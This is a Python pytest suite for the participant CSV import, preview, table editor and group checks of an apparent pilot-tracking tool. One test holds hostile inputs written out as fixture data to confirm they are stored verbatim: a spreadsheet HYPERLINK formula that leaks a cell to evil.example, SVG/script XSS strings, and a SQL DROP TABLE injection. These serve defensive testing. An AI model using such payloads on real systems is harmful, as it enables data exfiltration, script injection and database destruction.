"""The sample group: the CSV reader, preview, all-or-nothing import, the table editor, the checks."""

from __future__ import annotations

import datetime as dt

import pandas as pd
import pytest

from pilot.core.errors import ValidationError
from pilot.setup import participants, pilots
from pilot.setup.pilots import Pilot
from tests.conftest import DEMO_DIR, snapshot

HEADER = "name,email,department,audience,sponsor,champion\n"
DEMO_CSV = (DEMO_DIR / "participants.csv").read_bytes()


@pytest.fixture
def pilot(fresh_db) -> Pilot:
    return pilots.save_pilot(
        fresh_db, Pilot(name="Wiki trial", start=dt.date(2026, 9, 7), end=dt.date(2026, 11, 29))
    )


def csv(*rows: str, header: str = HEADER) -> bytes:
    return (header + "\n".join(rows) + "\n").encode()


def refused(db, pilot, data: bytes) -> list[str]:
    with pytest.raises(ValidationError) as e:
        participants.import_csv(db, pilot, data)
    return e.value.messages


def test_the_demo_file_gives_60_participants_in_6_departments(fresh_db, pilot):
    assert participants.import_csv(fresh_db, pilot, DEMO_CSV) == (60, 0)
    group = participants.list_participants(fresh_db, pilot.id)
    assert len(group) == 60
    assert group["department"].value_counts().to_dict() == {
        "Marketing": 15,
        "HR": 13,
        "Customer Service": 9,
        "Finance": 8,
        "Sales": 8,
        "Engineering": 7,
    }
    assert int(group["champion"].sum()) == 5
    assert group.loc[group["sponsor"], "email"].tolist() == ["kira.garcia@example.com"]
    assert pilots.get_pilot(fresh_db, pilot.id).sponsor_email == "kira.garcia@example.com"
    assert list(group.columns) == [
        "id", "name", "email", "department", "audience", "champion", "sponsor", "joined", "left"
    ]  # fmt: skip
    assert group["joined"].isna().all() and group["left"].isna().all()


def test_importing_the_same_file_again_changes_nothing(fresh_db, db_path, pilot):
    participants.import_csv(fresh_db, pilot, DEMO_CSV)
    before = snapshot(db_path)
    preview = participants.preview_csv(fresh_db, pilot, DEMO_CSV)
    assert (len(preview.add), len(preview.update), preview.unchanged) == (0, 0, 60)
    assert participants.import_csv(fresh_db, pilot, DEMO_CSV) == (0, 0)
    unchanged = ("meta", "audit")  # the audit trail records that the file was imported again
    assert {k: v for k, v in snapshot(db_path).items() if k not in unchanged} == {
        k: v for k, v in before.items() if k not in unchanged
    }


def test_preview_says_what_is_added_updated_and_rejected_before_storing(fresh_db, db_path, pilot):
    participants.import_csv(fresh_db, pilot, csv("Ann Lee,ann@example.com,Sales,management,,"))
    before = snapshot(db_path)
    preview = participants.preview_csv(
        fresh_db,
        pilot,
        csv(
            "Ann Lee,ANN@example.com,Sales,leadership,,true",
            "Bo Chen,bo@example.com,HR,practitioner,,",
            "Cy,cy@example.com,HR,boss,,",
        ),
    )
    assert snapshot(db_path) == before
    assert preview.add["email"].tolist() == ["bo@example.com"]
    assert preview.update[["email", "audience", "champion"]].values.tolist() == [
        ["ann@example.com", "leadership", True]
    ]
    assert preview.rejected.values.tolist() == [
        [4, "cy@example.com", "audience 'boss' is not one of leadership, management, practitioner, "
         "infrastructure, observer"]
    ]  # fmt: skip
    assert not preview.ok


def test_a_bom_is_accepted(fresh_db, pilot):
    assert participants.import_csv(fresh_db, pilot, b"\xef\xbb\xbf" + DEMO_CSV) == (60, 0)


def test_crlf_and_semicolons_are_accepted(fresh_db, pilot):
    data = DEMO_CSV.decode().replace(",", ";").replace("\n", "\r\n").encode()
    assert participants.import_csv(fresh_db, pilot, data) == (60, 0)


def test_utf16_with_bom_is_read_as_every_other_file(fresh_db, pilot):
    assert participants.import_csv(fresh_db, pilot, DEMO_CSV.decode().encode("utf-16")) == (60, 0)


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (
            "name,email,department,audience,sponsor,champion\nJosé Müller – Ops,jose@example.com,Ops,practitioner,,\n".encode(  # noqa: E501
                "cp1252"
            ),
            "The participants file is not CSV text (byte 0xe9 on line 2 is not UTF-8: "
            "Windows-1252 or binary?): save it as CSV UTF-8",
        ),
        (
            b"PK\x03\x04\x14\x00\x06\x00",
            "The participants file is not CSV text (an Excel workbook or a zip archive): "
            "save it as CSV UTF-8",
        ),
        (b"", "The participants file is empty"),
        (HEADER.encode(), "The participants file has a header but no data rows"),
    ],
)
def test_unreadable_files_say_why(fresh_db, db_path, pilot, data, message):
    before = snapshot(db_path)
    assert refused(fresh_db, pilot, data) == [message]
    assert snapshot(db_path) == before


def test_missing_columns_are_named(fresh_db, db_path, pilot):
    before = snapshot(db_path)
    assert refused(fresh_db, pilot, csv("Ann,ann@example.com,Sales", header="Name, EMAIL ,dept\n")) == [
        "The participants file lacks the column(s) department, audience, sponsor, champion; "
        "its header is: Name, EMAIL ,dept"
    ]
    assert snapshot(db_path) == before


def test_duplicate_emails_are_named_with_their_lines(fresh_db, db_path, pilot):
    before = snapshot(db_path)
    data = csv(
        "Ann Lee,ann@example.com,Sales,management,,",
        "Bo Chen,bo@example.com,HR,practitioner,,",
        "Ann (again),\u00a0Ann@Example.COM\u200b,Sales,management,,",
    )
    assert refused(fresh_db, pilot, data) == [
        "line 2: email ann@example.com appears more than once (lines 2 and 4)",
        "line 4: email ann@example.com appears more than once (lines 2 and 4)",
    ]
    assert snapshot(db_path) == before


def test_every_bad_row_is_reported_and_nothing_is_stored(fresh_db, db_path, pilot):
    before = snapshot(db_path)
    data = csv(
        ",no-at-sign,Sales,management,maybe,",
        "Ivan,\u0430nna@example.com,,practitioner,,",
        "Ok Person,ok@example.com,Sales,practitioner,,",
        "Dee,dee@example.com,HR,Practitioner,,2",
    )
    assert refused(fresh_db, pilot, data) == [
        "line 2: the name is empty; 'no-at-sign' is not an email address; sponsor must be true or false, not 'maybe'",  # noqa: E501
        "line 3: email '\u0430nna@example.com' has non-Latin characters (a look-alike letter?); the department is empty",  # noqa: E501
        "line 5: champion must be true or false, not '2'",
    ]
    assert snapshot(db_path) == before


def test_a_ragged_file_names_its_lines(fresh_db, pilot):
    data = csv("Ann,ann@example.com,Sales,management,,,extra", "Bo,bo@example.com,HR")
    assert refused(fresh_db, pilot, data) == [
        "The participants file: the header has 6 fields but line 2 has 7, line 3 has 3"
    ]


def test_two_sponsors_are_refused(fresh_db, pilot):
    data = csv("Ann,ann@example.com,Sales,leadership,true,", "Bo,bo@example.com,HR,leadership,yes,")
    assert refused(fresh_db, pilot, data) == [
        "Only one sponsor per pilot, but 2 rows are flagged: ann@example.com (line 2), bo@example.com (line 3)"  # noqa: E501
    ]


def test_a_sponsor_that_conflicts_with_the_pilots_is_refused(fresh_db, db_path, pilot):
    pilot.sponsor_email = "dana@example.com"
    pilot = pilots.save_pilot(fresh_db, pilot)
    before = snapshot(db_path)
    assert refused(fresh_db, pilot, csv("Ann,ann@example.com,Sales,leadership,true,")) == [
        "line 2: ann@example.com is flagged as sponsor, but the pilot's sponsor is dana@example.com; "
        "change the sponsor on the Pilot page first"
    ]
    assert snapshot(db_path) == before


def test_hostile_text_is_kept_as_typed(fresh_db, pilot):
    data = csv(
        '"=HYPERLINK(""https://evil.example/?x=""&A2,""Click"")",f@example.com,"""><svg onload=alert(1)>",observer,,',  # noqa: E501
        "<script>alert(1)</script>,s@example.com,'; DROP TABLE participants;--,observer,,",
    )
    participants.import_csv(fresh_db, pilot, data)
    group = participants.list_participants(fresh_db, pilot.id)
    assert sorted(zip(group["name"], group["department"], strict=True)) == [
        ("<script>alert(1)</script>", "'; DROP TABLE participants;--"),
        ('=HYPERLINK("https://evil.example/?x="&A2,"Click")', '"><svg onload=alert(1)>'),
    ]


def test_department_spellings_collapse_to_the_first_seen(fresh_db, pilot):
    participants.import_csv(
        fresh_db,
        pilot,
        csv(
            "A,a@example.com,Sales,observer,,",
            "B,b@example.com, sales ,observer,,",
            "C,c@example.com,SALES,observer,,",
        ),
    )
    assert participants.list_participants(fresh_db, pilot.id)["department"].tolist() == ["Sales"] * 3


def test_joined_and_left_dates_are_read_when_present(fresh_db, pilot):
    header = HEADER.strip() + ",joined,left\n"
    participants.import_csv(
        fresh_db, pilot, csv("A,a@example.com,Sales,observer,,,2026-09-14,", header=header)
    )
    group = participants.list_participants(fresh_db, pilot.id)
    assert (group["joined"][0], group["left"][0]) == ("2026-09-14", None)
    assert refused(
        fresh_db, pilot, csv("A,a@example.com,Sales,observer,,,14/09/2026,2026-09-01", header=header)
    ) == ["line 2: joined '14/09/2026' is not a date like 2026-09-07"]


def test_the_table_editor_adds_edits_and_removes(fresh_db, pilot):
    participants.import_csv(
        fresh_db, pilot, csv("Ann,ann@example.com,Sales,leadership,,", "Bo,bo@example.com,HR,observer,,")
    )
    table = participants.list_participants(fresh_db, pilot.id)
    table = table[table["email"] != "bo@example.com"].copy()
    table.loc[table["email"] == "ann@example.com", ["department", "sponsor"]] = ["Finance", True]
    new = {"id": None, "name": "Cy", "email": "Cy@Example.com", "department": "Ops", "audience": "observer"}
    table = pd.concat([table, pd.DataFrame([new])], ignore_index=True)
    assert participants.save_participants(fresh_db, pilot, table) == (1, 1, 1)
    group = participants.list_participants(fresh_db, pilot.id)
    assert group[["email", "department", "sponsor", "champion"]].values.tolist() == [
        ["ann@example.com", "Finance", True, False],
        ["cy@example.com", "Ops", False, False],
    ]
    assert pilots.get_pilot(fresh_db, pilot.id).sponsor_email == "ann@example.com"


def test_the_table_editor_refuses_bad_rows_and_stores_nothing(fresh_db, db_path, pilot):
    participants.import_csv(fresh_db, pilot, csv("Ann,ann@example.com,Sales,leadership,,"))
    before = snapshot(db_path)
    table = participants.list_participants(fresh_db, pilot.id)
    extra = {"id": None, "name": "Ann 2", "email": "ANN@example.com", "department": "HR", "audience": "chief"}
    table = pd.concat([table, pd.DataFrame([extra])], ignore_index=True)
    with pytest.raises(ValidationError) as e:
        participants.save_participants(fresh_db, pilot, table)
    assert e.value.messages == [
        "row 1: email ann@example.com appears more than once (rows 1 and 2)",
        "row 2: audience 'chief' is not one of leadership, management, practitioner, infrastructure, observer",  # noqa: E501
        "row 2: email ann@example.com appears more than once (rows 1 and 2)",
    ]
    assert snapshot(db_path) == before


def test_removing_someone_with_usage_is_refused(fresh_db, db_path, pilot):
    participants.import_csv(fresh_db, pilot, csv("Ann,ann@example.com,Sales,leadership,,"))
    ann = int(participants.list_participants(fresh_db, pilot.id)["id"][0])
    with fresh_db.conn:
        fresh_db.execute(
            "INSERT INTO imports (id, pilot_id, kind, week, channel) VALUES (1, ?, 'manual', '2026-09-07', 'tool')",  # noqa: E501
            [pilot.id],
        )
        fresh_db.execute("INSERT INTO usage VALUES (?, ?, '2026-09-07', 'tool', 2, 3, 1)", [pilot.id, ann])
    before = snapshot(db_path)
    with pytest.raises(ValidationError) as e:
        participants.save_participants(
            fresh_db, pilot, participants.list_participants(fresh_db, pilot.id).iloc[0:0]
        )
    assert e.value.messages == [
        "ann@example.com has 1 usage row(s) and cannot be removed: set a 'left' date instead"
    ]
    assert snapshot(db_path) == before


def group_frame(rows: list[tuple[str, str, bool]]) -> pd.DataFrame:
    return pd.DataFrame(
        [{"email": e, "department": d, "audience": "practitioner", "champion": c} for e, d, c in rows]
    )


def test_the_demo_group_passes_every_check(demo_db):
    pilot = pilots.get_pilot(demo_db, "demo")
    assert participants.group_checks(pilot, participants.list_participants(demo_db, pilot.id)) == []


def test_group_checks_give_the_figures():
    pilot = Pilot(
        name="x", start=dt.date(2026, 9, 7), end=dt.date(2026, 9, 27), sponsor_email="boss@example.com"
    )
    frame = group_frame([("a@example.com", "Sales", False)] * 5 + [("b@example.com", "HR", False)] * 2)
    assert participants.group_checks(pilot, frame) == [
        "Only 2 department(s) take part (Sales, HR): a pilot needs at least 3",
        "Sales holds 5 of 7 participants (71%): more than half of the group",
        "The sponsor boss@example.com is not in the sample group",
        "No champion (key user) is flagged in the group",
    ]


def test_exactly_half_is_not_more_than_half():
    pilot = Pilot(
        name="x", start=dt.date(2026, 9, 7), end=dt.date(2026, 9, 27), sponsor_email="a@example.com"
    )
    frame = group_frame([("a@example.com", "Sales", True), ("b@example.com", "Sales", False)])
    frame = pd.concat([frame, group_frame([("c@example.com", "HR", False), ("d@example.com", "Ops", False)])])
    assert participants.group_checks(pilot, frame) == []


def test_no_sponsor_and_an_empty_group_are_warned():
    pilot = Pilot(name="x", start=dt.date(2026, 9, 7), end=dt.date(2026, 9, 27))
    assert participants.group_checks(pilot, group_frame([])) == [
        "The sample group is empty: add participants from at least 3 departments"
    ]
    frame = group_frame([("a@example.com", d, True) for d in ("Sales", "HR", "Ops")])
    assert participants.group_checks(pilot, frame) == [
        "No sponsor set: pick the executive sponsor on the Pilot page"
    ]


def test_makeup_counts_by_department_and_audience(demo_db):
    group = participants.list_participants(demo_db, pilots.get_pilot(demo_db, "demo").id)
    makeup = participants.makeup(group)
    assert makeup["participants"].sum() == 60
    assert makeup[makeup["department"] == "Customer Service"].values.tolist() == [
        ["Customer Service", "infrastructure", 3],
        ["Customer Service", "leadership", 1],
        ["Customer Service", "management", 2],
        ["Customer Service", "practitioner", 3],
    ]


def test_pickers_label_each_participant_by_name_department_and_email(fresh_db, pilot):
    participants.import_csv(
        fresh_db,
        pilot,
        csv(
            "Ana Lopez,ana.lopez@example.com,Sales,practitioner,false,false",
            "Ana Lopez,ana.lopez2@example.com,HR,practitioner,true,false",
        ),
    )
    group = participants.list_participants(fresh_db, pilot.id)
    assert participants.labels(group) == {  # the group's order: department, then name
        "ana.lopez2@example.com": "Ana Lopez, HR (ana.lopez2@example.com)",
        "ana.lopez@example.com": "Ana Lopez, Sales (ana.lopez@example.com)",
    }
    assert list(participants.labels(group, by="id").values()) == list(participants.labels(group).values())
